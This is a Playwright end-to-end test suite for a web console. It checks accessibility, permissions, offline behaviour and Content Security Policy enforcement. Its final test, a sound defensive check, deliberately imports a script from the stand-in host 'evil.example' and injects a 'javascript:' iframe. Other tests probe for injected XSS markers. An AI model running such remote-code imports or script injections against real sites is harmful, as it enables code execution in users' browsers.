import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PERMISSIONS } from '../../../src/domain/permissions.ts';
import { launchBrowser } from '../../support/browser.ts';
import { becomesLive, type ConsolePage, expectNoAxeViolations, openConsole } from '../../support/console-page.ts';
import { consoleViews, expectWellMade, goTo, LOOKS, settles } from '../../support/console-views.ts';
import { CONSOLE_WORLD, type ConsoleWorld, openConsoleWorld, SCRIPT } from '../../support/console-world.ts';
import { skipReason, titled } from '../../support/required-tools.ts';

const missing = skipReason('chromium');
/** What the browser says of requests that fail while the network is away. */
const OUTAGE = /net::ERR_(?:CONNECTION|INTERNET|INCOMPLETE|EMPTY|NETWORK)|dynamically imported module|ViewNotLoaded/;
const BRIEF_LOOKS = LOOKS.filter(({ width }) => width === undefined);
const OPENED_LOOKS = LOOKS.filter(({ name }) => name !== 'light at 360 px');
/** What begins so changes something. */
const CHANGES = /^(?:Abandon|Activate|Add|Create|Delete|Edit|Link|Replay|Revoke|Rotate|Save|Test|Unlink)\b/;
const MINUTES = 60_000;

const beginningWith = (text: string) => new RegExp(`^${text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`);

describe.skipIf(missing)(titled('every view of the console', missing), () => {
  let world: ConsoleWorld;
  let browser: Browser;
  const views = () => consoleViews(world, SCRIPT);
  const lists = () => views().filter(({ isList = true }) => isList);

  beforeAll(async () => {
    [world, browser] = await Promise.all([openConsoleWorld(), launchBrowser()]);
  });
  afterAll(async () => {
    await browser?.close();
    await world?.close();
  });

  async function open(user: string, options: Partial<Parameters<typeof openConsole>[0]> = {}): Promise<ConsolePage> {
    const opened = await openConsole({
      purser: world.purser,
      browser,
      path: '/projects',
      isSignedIn: false,
      ...options,
    });
    await opened.page.getByRole('button', { name: `Sign in as ${user}` }).click();
    await opened.page.getByRole('button', { name: `Signed in as ${user}` }).waitFor();
    return opened;
  }

  const hasRun = async (page: Page) =>
    (await page.evaluate('window.hasRun')) !== undefined || (await page.locator('img[src="x"]').count()) > 0;

  it('has no fault of accessibility in any look, and runs no script that stands in a text', {
    timeout: 5 * MINUTES,
  }, async () => {
    const { page, close, answers } = await open('ada');
    await goTo(page, '/projects', 'Projects');
    await expectWellMade(page, 'Projects');
    const shown = new Set<string>();
    for (const { path, heading } of views()) {
      await goTo(page, `/projects/demo${path}`, heading);
      await expectWellMade(page, path);
      expect(await hasRun(page), path).toBe(false);
      const text = await page.evaluate<string>('document.querySelector("main").innerText');
      if (text.includes(SCRIPT)) shown.add(path);
    }
    // The texts were there to run.
    expect([...shown]).toEqual(expect.arrayContaining([...CONSOLE_WORLD.showScripts(world)]));
    expect(answers()).toBeGreaterThan(30);
    await close();
  });

  /** What opens over a view, by the button that opens it. */
  const OPENED = [
    { path: (id: string) => `/registries/${id}`, open: 'Delete…', opens: /^Delete / },
    { path: (id: string) => `/registries/${id}?tab=leases`, open: 'Revoke all…', opens: /^Revoke all/ },
    { path: (id: string) => `/registries/${id}?tab=leases`, open: SCRIPT, opens: 'Lease' },
    { path: (id: string) => `/registries/${id}?tab=pipelines`, open: 'Link a pipeline', opens: 'Link a pipeline' },
    { path: () => '/calendar', open: 'Create a feed', opens: 'Create a calendar feed' },
    { path: () => '/calendar', open: `Revoke ${SCRIPT}`, opens: /^Revoke/ },
    { path: () => '/webhooks', open: 'Rotated', opens: 'Delivery: Rotated' },
    { path: () => '/audit', open: 'Filters', opens: 'Filter the audit log' },
    { path: () => '/audit', open: 'Export', opens: 'Export the audit log' },
    { path: () => '/audit', open: 'CREATE_REGISTRY', opens: /^Entry \d+$/ },
    { path: (_: string, rule: string) => `/trust/${rule}`, open: 'Delete…', opens: /^Delete / },
  ] as const;

  it('has no fault in what opens over a view', { timeout: 4 * MINUTES }, async () => {
    const { page, close } = await open('ada');
    for (const { path, open: name, opens } of OPENED) {
      await goTo(page, `/projects/demo${path(world.registryId, world.ruleId)}`, /./);
      const button = page.locator('main').getByRole('button', { name: beginningWith(name) });
      await button.first().click();
      const dialog = page.getByRole('dialog', { name: opens });
      await dialog.waitFor();
      await settles(page);
      await expectWellMade(page, `${name}`, OPENED_LOOKS);
      expect(await hasRun(page), name).toBe(false);
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });
      await page.setViewportSize({ width: 1280, height: 800 });
    }
    for (const name of ['Signed in as ada', 'Project demo: choose another']) {
      await page.getByRole('button', { name }).click();
      await expectWellMade(page, name, BRIEF_LOOKS);
      await page.keyboard.press('Escape');
    }
    await close();
  });

  it('is used by fingers on a small screen', { timeout: 2 * MINUTES }, async () => {
    const { page, close } = await open('ada', {
      path: '/projects/demo',
      hasTouch: true,
      viewport: { width: 360, height: 740 },
    });
    await page.getByRole('button', { name: 'Menu', exact: true }).tap();
    const menu = page.getByRole('dialog');
    await expectNoAxeViolations(page, 'menu');
    await menu.getByRole('link', { name: 'Registries' }).tap();
    await page.getByRole('link', { name: SCRIPT }).first().tap();
    await page.getByRole('heading', { name: SCRIPT, level: 1 }).waitFor();
    await page.getByRole('tab', { name: 'Leases' }).tap();
    await page.getByRole('button', { name: 'Revoke all…' }).tap();
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).tap();
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await goTo(page, '/projects/demo/audit', 'Audit log');
    await page
      .getByRole('toolbar', { name: /^Choose a range/ })
      .getByRole('button')
      .last()
      .tap();
    await expect.poll(() => new URL(page.url()).searchParams.has('from')).toBe(true);
    await close();
  });

  it('would notice a secret in an answer', async () => {
    const { page, complaints, close } = await open('ada');
    const token = JSON.stringify(world.pipelineToken());
    await page.evaluate(`fetch('/graphql', { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + ${token} },
      body: JSON.stringify({ query: ${JSON.stringify(CONSOLE_WORLD.ask)} }) }).then((answer) => answer.text()).then(() => undefined)`);
    await expect.poll(() => complaints.some((one) => one.startsWith('a secret in the answer of'))).toBe(true);
    await close(/^a secret in the answer of/);
  });

  it.each([
    ['bob', [PERMISSIONS.registryRead]],
    ['dora', [PERMISSIONS.trustRead]],
    ['abel', [PERMISSIONS.auditRead]],
  ] as const)('shows %s, who may %j, that and no more', { timeout: 3 * MINUTES }, async (user, granted) => {
    const { page, close } = await open(user);
    const forbidden = new Set<string>();
    for (const { path, heading, permission } of views()) {
      const isGranted = granted.some((one) => one === permission);
      await goTo(page, `/projects/demo${path}`, isGranted ? heading : 'You may not see this');
      if (!isGranted) {
        await page.getByText(`Your token does not grant ${permission} in the project “demo”.`).waitFor();
        if (forbidden.has(permission)) continue;
        forbidden.add(permission);
      }
      await expectWellMade(page, path, BRIEF_LOOKS);
      const main = page.locator('main');
      const offered = main.getByRole('button', { name: CHANGES }).or(main.getByRole('link', { name: CHANGES }));
      expect(await offered.allInnerTexts(), `${path} offers`).toEqual([]);
      expect(await hasRun(page), path).toBe(false);
    }
    await goTo(page, '/projects/shop', 'You have no access to this project');
    await close();
  });

  it('shows what there is to do while a project is empty', { timeout: 2 * MINUTES }, async () => {
    const { page, close } = await open('ada');
    for (const { path, heading } of lists()) {
      await goTo(page, `/projects/shop${path}`, heading);
      await expectWellMade(page, `empty ${path}`, BRIEF_LOOKS);
    }
    await goTo(page, '/projects/shop/registries/3f2504e0-4f89-51d3-9a0c-0305e82c3301', 'Registry');
    await page.getByText('No such registry').waitFor();
    await expectWellMade(page, 'no registry', BRIEF_LOOKS);
    await goTo(page, '/projects/shop/nowhere', 'There is nothing here');
    await expectWellMade(page, 'nowhere', BRIEF_LOOKS);
    await close();
  });

  it('says so when the service fails', { timeout: 2 * MINUTES }, async () => {
    const { page, close } = await open('ada');
    await page.route('**/graphql', (route) =>
      route.fulfill({
        headers: { 'x-request-id': 'request-of-the-test' },
        json: { errors: [{ message: 'Something failed at the service.', extensions: { code: 'INTERNAL' } }] },
      }),
    );
    for (const { path, heading } of lists()) {
      await goTo(page, `/projects/demo${path}`, heading);
      await page.locator('main').getByText('Something failed at the service.').first().waitFor();
      await expectWellMade(page, `failed ${path}`, BRIEF_LOOKS);
    }
    await close();
  });

  it('says so when the network is away, and goes on by itself, also where its code was not loaded yet', {
    timeout: 2 * MINUTES,
  }, async () => {
    const { page, close } = await open('ada', { path: '/projects/demo/registries' });
    await becomesLive(page);
    await goTo(page, '/projects/demo/notices', 'Notices');
    await page.evaluate('window.isSamePage = true');
    await page.context().setOffline(true);
    await page.getByText('This machine is offline.').waitFor();
    await expectWellMade(page, 'offline', BRIEF_LOOKS);
    await goTo(page, '/projects/shop/notices', 'Notices');
    await page.getByText('The service cannot be reached').first().waitFor();
    await expectWellMade(page, 'offline and not read yet', BRIEF_LOOKS);
    await goTo(page, '/projects/demo/calendar', 'This view could not be shown');
    await page.getByText('Its code was not loaded yet.').waitFor();
    await expectWellMade(page, 'offline and not loaded yet', BRIEF_LOOKS);
    await page.context().setOffline(false);
    await page.getByRole('heading', { name: 'Calendar', level: 1 }).waitFor();
    await settles(page);
    expect(await page.evaluate('window.isSamePage')).toBe(true);
    await close(OUTAGE);
  });

  it('has broken no rule of the policy by now, and each that is broken is reported', async () => {
    const { policyReports } = world;
    const reported = () => policyReports.map((one) => `${one['effective-directive']} ${one['blocked-uri']}`);
    expect(policyReports).toEqual([]);
    const { page, complaints, close } = await open('ada');
    await page.evaluate(`import('https://evil.example/a.js').catch(() => undefined)`);
    await expect(page.evaluate('document.body.innerHTML = "<b>"')).rejects.toThrow(/TrustedHTML/);
    await page.evaluate('document.body.setAttribute("style", "color: red")');
    await page.evaluate(
      'document.body.append(Object.assign(document.createElement("iframe"), { src: "javascript:parent.hasRun=1" }))',
    );
    await expect
      .poll(reported)
      .toEqual([
        'script-src-elem https://evil.example/a.js',
        'require-trusted-types-for trusted-types-sink',
        'style-src-attr inline',
        'script-src-elem inline',
      ]);
    expect(await hasRun(page)).toBe(false);
    expect(complaints.filter((one) => one.startsWith('policy: '))).toHaveLength(4);
    await close(/^policy: |Content Security Policy|TrustedHTML|evil\.example/);
  });
});
